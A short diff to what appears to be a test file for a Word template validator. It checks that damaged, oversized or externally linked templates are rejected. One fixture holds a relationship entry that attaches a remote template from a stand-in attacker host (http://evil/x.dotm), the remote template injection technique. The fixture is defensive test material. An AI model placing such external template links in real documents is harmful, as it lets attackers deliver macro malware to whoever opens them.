@@ -130,7 +130,8 @@ BLANK = word("《结论》")
          "template_damaged"),
         (packed(BLANK, **{"word__document--xml": b"<w:document"}), "template_damaged"),
         (packed(BLANK, **{"word___rels__settings--xml--rels":
-                b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" '
+                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                    b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" '
                 b'TargetMode="External"/></Relationships>'}), "template_links"),
         (packed(BLANK, word__big=bytes(60 << 20)), "template_too_large"),
         (bytes(6 << 20), "template_too_large"),
